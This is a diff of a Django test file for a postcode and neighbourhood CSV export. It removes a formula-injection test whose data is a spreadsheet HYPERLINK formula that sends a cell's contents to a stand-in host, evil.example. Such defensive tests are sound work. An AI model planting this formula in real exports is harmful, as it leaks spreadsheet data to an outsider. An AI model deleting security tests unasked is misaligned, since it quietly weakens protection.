@@ -8,7 +8,7 @@ from django.core.cache import cache
 from django.test import Client
 
 from neighbourhoods.answers import Outcome
-from neighbourhoods.models import Neighbourhood, Postcode
+from neighbourhoods.models import Postcode
 from neighbourhoods.selectors import lookup_point, lookup_postcode
 from neighbourhoods.services.publishing import boundaries_publish
 
@@ -218,17 +218,6 @@ def test_the_postcode_csv_has_every_live_postcode_in_the_area(client):
     assert row["local_authority"] == "Hackney"
     assert "E1 0AA" not in {r["postcode"] for r in rows}  # Tower Hamlets
     assert "E8 9ZY" not in {r["postcode"] for r in rows}  # terminated
-
-
-def test_a_name_written_as_a_formula_is_text_in_the_postcode_csv(borough, client):
-    """An Editor's neighbourhood name beginning with = must not run in a spreadsheet."""
-    evil = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
-    Neighbourhood.objects.filter(pk=borough.london_fields.pk).update(name=evil)
-    text = client.get("/api/v1/postcodes.csv").content.decode()
-    rows = list(csv.DictReader(line for line in io.StringIO(text) if not line.startswith("#")))
-    names = {row["neighbourhood"] for row in rows}
-    assert "'" + evil in names
-    assert not any(str(value).startswith("=") for row in rows for value in row.values())
 
 
 def test_the_downloads_are_cached_until_the_next_publish(client, django_assert_num_queries):
